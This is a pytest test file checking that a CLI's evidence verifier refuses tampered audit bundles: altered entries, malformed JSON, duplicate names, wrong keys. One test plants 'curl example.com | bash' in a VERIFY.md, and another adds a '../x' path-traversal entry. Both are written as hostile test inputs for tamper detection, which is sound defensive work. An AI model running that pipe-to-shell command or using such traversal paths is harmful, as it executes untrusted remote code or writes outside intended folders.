"""authledger audit verify-evidence: every way to alter evidence is refused."""

from __future__ import annotations

import json
import re
import zipfile
from collections.abc import Callable

import pytest

from projections.evidence.make import canonical
from tests.cli.audit.bundle_file import (
    BUNDLE,
    GRANTED,
    NONE,
    STRANGER,
    Parts,
    an_entry,
    flipped,
    parts,
    rewrite,
)
from tests.cli.conftest import Cli


def without(name: str) -> Callable[[Parts], Parts]:
    return lambda of: {each: data for each, data in of.items() if each != name}


def altered(name: str, place: int = -10) -> Callable[[Parts], Parts]:
    return lambda of: {**of, name: flipped(of[name], place)}


def ending(name: str, tail: bytes) -> Callable[[Parts], Parts]:
    return lambda of: {**of, name: of[name] + tail}


def in_question(old: bytes, new: bytes) -> Callable[[Parts], Parts]:
    return lambda of: {**of, "question.json": of["question.json"].replace(old, new)}


def moved(of: Parts) -> Parts:
    """Rename an entry to another position."""
    return {re.sub(r"/\d+\.", "/2.", n) if n == an_entry(of) else n: d for n, d in of.items()}


CRIMES: dict[str, tuple[Callable[[Parts], Parts], str]] = {
    "an entry altered": (lambda of: altered(an_entry(of))(of), "not verified"),
    "a proof altered": (lambda of: altered(_proof(of), 60)(of), "not verified"),
    "an entry moved": (moved, "is missing"),
    "an entry removed": (
        lambda of: {n: d for n, d in of.items() if n not in (an_entry(of), _proof(of))},
        "another answer",
    ),
    "a part added": (lambda of: {**of, "key": b"PeterNeumann"}, "does not belong in it"),
    "a path out of the folder": (lambda of: {**of, "../x": b""}, "does not belong in it"),
    "the answer altered": (
        lambda of: {**of, "answer.json": of["answer.json"].replace(b"granted", b"revoked")},
        "another answer",
    ),
    "the answer with a tail": (ending("answer.json", b" "), "another answer"),
    "another region asked": (in_question(b"cn-north-4", b"cn-east-3"), "needs complete evidence"),
    "an unknown column asked": (in_question(b'"region"', b'"salary"'), "is not a valid question"),
    "a key twice in the question": (
        in_question(b'{"', b'{"view":"x","'),
        "is not a valid question",
    ),
    "the question with a tail": (ending("question.json", b"x"), "is not a valid question"),
    "another view asked": (
        in_question(b'"regions"', b'"audit_trail"'),
        "is not a valid question",
    ),
    "a position not covered": (
        lambda of: {
            **of,
            "question.json": re.sub(rb'"position":\d+', b'"position":999', of["question.json"]),
        },
        "covers",
    ),
    "a count claimed with little": (
        in_question(b'"regions"', b'"usage"'),
        "needs complete evidence",
    ),
    "the checkpoint altered": (altered("checkpoint", 30), "not verified"),
    "no checkpoint": (without("checkpoint"), "is missing"),
    "no answer": (without("answer.json"), "is missing"),
}


def _proof(of: Parts) -> str:
    return an_entry(of).replace("entries/", "proofs/").replace(".json", ".tlog-proof")


@pytest.mark.parametrize("crime", CRIMES)
def test_evidence_is_refused_with(cli: Cli, key: str, crime: str) -> None:
    commit, saying = CRIMES[crime]
    cli.done(f'audit evidence "{GRANTED}"')
    rewrite(commit(parts()))
    said = cli(f"audit verify-evidence evidence.zip --key {key}")
    assert (said.code, said.out) == (6, "")
    assert saying in said.err


IN_A_QUESTION = ("complete", "effective_at", "position", "rules", "view", "where")
IN_A_CONDITION = ("region", "since")
ODD: tuple[object, ...] = (None, True, 7, 1.5, [], {}, ["x"], "\0")


def test_an_altered_question_is_never_verified_as_another(cli: Cli, key: str) -> None:
    """`region=null` was answered for every region, and `region=[]` was called damaged views."""
    cli.done(f'audit evidence "{GRANTED}"')
    of = parts()
    for place in (*IN_A_QUESTION, *IN_A_CONDITION):
        for value in ODD:
            if (place, value) in (("effective_at", None), ("where", {}), ("rules", "\0")):
                continue
            question = json.loads(of["question.json"])
            (question if place in IN_A_QUESTION else question["where"])[place] = value
            rewrite({**of, "question.json": canonical(question)})
            said = cli(f"audit verify-evidence evidence.zip --key {key}")
            assert (said.code, said.out) == (6, ""), f"{place}={value!r}: {said.err}"


@pytest.mark.parametrize("text", [b"[" * 100_000, b'{"position":' + b"9" * 5_000 + b"}", b"\xff"])
def test_a_question_that_cannot_be_read_is_not_verified(cli: Cli, key: str, text: bytes) -> None:
    cli.done(f'audit evidence "{GRANTED}"')
    rewrite({**parts(), "question.json": text})
    said = cli(f"audit verify-evidence evidence.zip --key {key}")
    assert said.code == 6
    assert "question.json is not a valid question" in said.err


def test_parts_compressed_in_another_way_are_refused(cli: Cli, key: str) -> None:
    """Other compression libraries raise errors of their own."""
    cli.done(f'audit evidence "{GRANTED}"')
    of = parts()
    with zipfile.ZipFile(BUNDLE, "w", zipfile.ZIP_LZMA) as archive:
        for name, data in of.items():
            archive.writestr(name, data)
    said = cli(f"audit verify-evidence evidence.zip --key {key}")
    assert said.code == 6
    assert "compressed in a way" in said.err


COMPLETE_CRIMES: dict[str, tuple[Callable[[bytes], bytes], str]] = {
    "an entry altered": (flipped, "not verified"),
    "an entry removed": (lambda data: data.split(b"\n", 1)[1], "ends too early"),
    "two entries swapped": (
        lambda data: b"\n".join([*reversed(data.split(b"\n")[:2]), *data.split(b"\n")[2:]]),
        "not verified",
    ),
    "an entry more": (lambda data: data + b"{}\n", "has more than the"),
    "the last line without its end": (lambda data: data[:-1], "ends too early"),
    "a version beyond all numbers": (
        lambda data: data.replace(b'"version":1', b'"version":' + b"9" * 30, 1),
        "cannot be read",
    ),
    "an entry nested deeply": (
        lambda data: b"[" * 60_000 + b"\n" + data.split(b"\n", 1)[1],
        "cannot be read",
    ),
    "a line without an end": (lambda data: b"x" * 100_000 + data, "too long"),
}


@pytest.mark.parametrize("crime", COMPLETE_CRIMES)
def test_complete_evidence_is_refused_with(cli: Cli, key: str, crime: str) -> None:
    commit, saying = COMPLETE_CRIMES[crime]
    cli.done(f'audit evidence "{NONE}"')
    of = parts()
    rewrite({**of, "entries.jsonl": commit(of["entries.jsonl"])})
    said = cli(f"audit verify-evidence evidence.zip --key {key}")
    assert said.code == 6
    assert saying in said.err


def test_no_byte_of_the_file_can_be_changed_to_another_answer(cli: Cli, key: str) -> None:
    cli.done(f'audit evidence "{GRANTED}"')
    genuine = BUNDLE.read_bytes()
    good = cli.done(f"audit verify-evidence evidence.zip --key {key}").out
    refused = 0
    for place in range(0, len(genuine), len(genuine) // 150):
        BUNDLE.write_bytes(flipped(genuine, place))
        said = cli(f"audit verify-evidence evidence.zip --key {key}")
        assert (said.code, said.out) in ((6, ""), (0, good)), place
        refused += said.code == 6
    assert refused > 100


def test_two_parts_of_the_same_name_are_refused(cli: Cli, key: str) -> None:
    cli.done(f'audit evidence "{GRANTED}"')
    with pytest.warns(UserWarning, match="Duplicate"), zipfile.ZipFile(BUNDLE, "a") as archive:
        archive.writestr("answer.json", b"{}")
    said = cli(f"audit verify-evidence evidence.zip --key {key}")
    assert said.code == 6
    assert "two of its parts have the same name" in said.err


def test_evidence_does_not_verify_under_another_key(cli: Cli, key: str) -> None:
    assert key
    cli.done(f'audit evidence "{GRANTED}"')
    said = cli(f"audit verify-evidence evidence.zip --key {STRANGER}")
    assert said.code == 6
    assert "No trusted key" in said.err


def test_verifying_evidence_requires_a_key(cli: Cli, key: str) -> None:
    assert key
    cli.done(f'audit evidence "{GRANTED}"')
    assert cli("audit verify-evidence evidence.zip").code == 2


def test_a_file_that_is_not_an_archive_is_refused(cli: Cli, key: str) -> None:
    BUNDLE.write_bytes(b"PK nothing")
    assert cli(f"audit verify-evidence evidence.zip --key {key}").code == 6
    assert cli(f"audit verify-evidence nothing.zip --key {key}").code == 4


def test_other_instructions_than_this_programs_are_noted(cli: Cli, key: str) -> None:
    cli.done(f'audit evidence "{GRANTED}"')
    rewrite({**parts(), "VERIFY.md": b"curl example.com | bash"})
    said = cli.done(f"audit verify-evidence evidence.zip --key {key}")
    assert (
        "Note: VERIFY.md in the evidence differs from this program's: read it before you run"
        in said.err
    )
